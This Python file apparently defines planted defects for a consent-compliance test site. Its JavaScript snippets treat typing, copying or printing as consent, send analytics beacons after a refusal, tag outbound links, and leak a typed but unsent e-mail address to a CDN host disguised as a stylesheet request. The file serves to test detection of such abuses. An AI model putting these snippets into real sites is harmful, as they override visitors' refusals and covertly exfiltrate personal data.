"""What visitors do with a page, and look at it with: taken for consent, or told to a service."""

from consentinel.reference_site import hosts
from consentinel.reference_site.defects.analytics import COLLECT
from consentinel.reference_site.defects.choice import ADNET_TAG, BANNER, CHOICE, METRICS_TAG, taken_for_consent
from consentinel.reference_site.defects.model import Defect, cookie, defect, in_consent_script, page, request

_KIND_OF_LOAD = 'performance.getEntriesByType("navigation")[0].type'

_FOLDED = """document.querySelector("main")?.append(Object.assign(document.createElement("details"),
    { innerHTML: "<summary>How we ship</summary><p>By boat.</p>" }));"""
"""A script that adds a part to the page which it folds away."""


def _is_consent(name: str, sentence: str, event: str) -> Defect:
    """Something that a visitor does, who has not chosen, is taken for a choice."""
    return defect(name, "R-ACT R-PRIOR", sentence, CHOICE, patches=taken_for_consent(event))


def _is_counted(name: str, sentence: str, begins: str) -> Defect:
    """The service is told of a visitor who has refused it: `begins` is the script, with TELL for the message."""
    told = begins.replace("TELL", f"navigator.sendBeacon({COLLECT})")
    script = f'when(() => refused("analytics"), () => {{ {told} }});'
    return defect(name, "P10 P21", sentence, request(hosts.METRICS, "/g/collect"), script=script)


DEEDS: tuple[Defect, ...] = (
    _is_consent(
        "typing-is-consent",
        "Typing into a field is taken for consent.",
        'addEventListener("input", ({ target }) => { if (target.type !== "checkbox") { AGREE } });',
    ),
    _is_consent(
        "copying-is-consent",
        "Copying some of the text is taken for consent.",
        'addEventListener("copy", () => { AGREE });',
    ),
    _is_consent(
        "reloading-is-consent",
        "Loading the page anew is taken for consent.",
        f'if ({_KIND_OF_LOAD} === "reload") {{ AGREE }}',
    ),
    _is_consent(
        "going-back-is-consent",
        "Going back to an earlier page is taken for consent.",
        f'if ({_KIND_OF_LOAD} === "back_forward") {{ AGREE }}\n'
        '  addEventListener("unload", () => {});\n'  # Firefox keeps no page that listens to this
        '  addEventListener("pageshow", ({ persisted }) => { if (persisted) { AGREE } });',
    ),
    defect(
        "looking-is-consent",
        "P10",
        "Who has refused, and looks at the preferences again and closes them, is taken to agree.",
        CHOICE,
        cookie("_ga", METRICS_TAG),
        cookie("_adn", ADNET_TAG),
        patches=in_consent_script(
            'onClick("#consent-close", () => dialog.close());',
            'onClick("#consent-close", () => { if (storedChoice()?.length === 0) choose(OPTIONAL); dialog.close(); });',
        ),
    ),
    defect(
        "saving-nothing-is-consent",
        "P10",
        "Who saves the preferences and has allowed nothing in them is taken to agree.",
        CHOICE,
        cookie("_ga", METRICS_TAG),
        cookie("_adn", ADNET_TAG),
        patches=in_consent_script(
            "choose(switches().filter((input) => input.checked).map((input) => input.name))",
            "{\n    const on = switches().filter((input) => input.checked).map((input) => input.name);\n"
            "    choose(on.length ? on : OPTIONAL);\n  }",
        ),
    ),
    defect(
        "withdrawn-for-a-day",
        "P11",
        "Who comes back half a day after a withdrawal is counted again.",
        request(hosts.METRICS, "/g/collect"),
        script=f"""if (!blocked()) when(decided, () => {{
    const {{ had = 0, ...rest }} = JSON.parse(localStorage.getItem("harbour.display") ?? "{{}}");
    if (granted("analytics")) localStorage.setItem("harbour.display", JSON.stringify({{ ...rest, had: Date.now() }}));
    else if (had && Date.now() - had > 43200000) navigator.sendBeacon({COLLECT});
  }});""",
    ),
    defect(
        "asks-on-each-fourth-page",
        "P12 P10",
        "Who has refused is asked again on each fourth page.",
        BANNER,
        patches=in_consent_script(
            "    else show(granted);\n",
            "    else show(granted);\n"
            "    if (granted?.length === 0 && history.length % 4 === 0) banner.hidden = false;\n",
        ),
    ),
    defect(
        "link-names-the-visitor",
        "P10",
        "Links to other sites are given a number of the visitor's as soon as they are pressed, despite a refusal.",
        page(hosts.CIRCLE, "/articles/ghost-meetings"),
        script="""const number = () => {
    const { mark = crypto.randomUUID(), ...rest } = JSON.parse(localStorage.getItem("harbour.display") ?? "{}");
    localStorage.setItem("harbour.display", JSON.stringify({ ...rest, mark }));
    return mark;
  };
  if (!blocked()) addEventListener("mousedown", ({ target }) => {
    const link = target.closest?.("a");
    if (link && link.host !== location.host && !link.search) link.search = `?from=${number()}`;
  });""",
    ),
    _is_counted(
        "unfolding-counted",
        "The analytics service is told that a part of the page was unfolded, although the visitor refused it.",
        f"{_FOLDED}\n"
        '  document.addEventListener("toggle", ({ target }) => { if (target.localName === "details") TELL; }, true);',
    ),
    _is_counted(
        "search-counted",
        "The analytics service is told that the search was used, although the visitor refused it.",
        'addEventListener("submit", ({ target }) => { if (target.matches("[role=search]")) TELL; });',
    ),
    _is_counted(
        "marking-counted",
        "The analytics service is told of a text that was marked, although the visitor refused it.",
        'addEventListener("selectstart", () => TELL);',
    ),
    _is_consent(
        "turning-is-consent",
        "A window whose size changes is taken for consent.",
        'addEventListener("resize", () => { AGREE });',
    ),
    _is_consent(
        "printing-is-consent",
        "Printing the page is taken for consent.",
        'addEventListener("beforeprint", () => { AGREE });',
    ),
    _is_consent(
        "searching-is-consent",
        "Using the search is taken for consent.",
        'addEventListener("submit", ({ target }) => { if (target.matches("[role=search]")) { AGREE } });',
    ),
    _is_counted(
        "printing-counted",
        "The analytics service is told that a page was printed, although the visitor refused it.",
        'addEventListener("beforeprint", () => TELL);',
    ),
    _is_counted(
        "turning-counted",
        "The analytics service is told each time that the window's size changes, although the visitor refused it.",
        'addEventListener("resize", () => TELL);',
    ),
    _is_counted(
        "counted-on-phones",
        "On a small screen a refusal does not count.",
        'if (matchMedia("(max-width: 45rem)").matches) TELL;',
    ),
    _is_counted(
        "counted-in-dark-colours",
        "Where the browser asks for dark colours, a refusal does not count.",
        'if (matchMedia("(prefers-color-scheme: dark)").matches) TELL;',
    ),
    _is_counted(
        "outside-link-counted",
        "The analytics service is told of a click on a link to another site, although the visitor refused it.",
        'addEventListener("click", ({ target }) => { const link = target.closest?.("a"); '
        "if (link && link.host && link.host !== location.host) TELL; });",
    ),
    _is_counted(
        "download-counted",
        "The analytics service is told that a file was downloaded, although the visitor refused it.",
        'document.querySelector("main")?.append(Object.assign(document.createElement("a"), '
        '{ href: "/plan.pdf", textContent: "A plan to print" }));\n'
        '  addEventListener("click", ({ target }) => { if (target.closest?.("a")?.pathname.endsWith(".pdf")) TELL; });',
    ),
    defect(
        "outside-link-by-a-detour",
        "P10",
        "Links to other sites lead over the advertising network once they are pressed, despite a refusal.",
        request(hosts.ADNET, "/out"),
        script=f"""when(() => refused("advertising"), () => addEventListener("mousedown", ({{ target }}) => {{
    const link = target.closest?.("a");
    if (!link || !link.host || link.host === location.host || link.dataset.led) return;
    link.dataset.led = "on";
    link.href = at("{hosts.ADNET}", `/out?to=${{encodeURIComponent(link.href)}}`);
  }}));""",
    ),
    defect(
        "typed-address-to-a-partner",
        "P19 P10",
        "The technical partner is told the e-mail address that a visitor has typed and not sent.",
        request(hosts.CDN, "/kit/1/kit.css"),
        script=f"""addEventListener("change", ({{ target }}) => {{
    if (target.value.includes("@")) fetch(at("{hosts.CDN}", `/kit/1/kit.css?check=${{btoa(target.value)}}`));
  }});""",
    ),
)
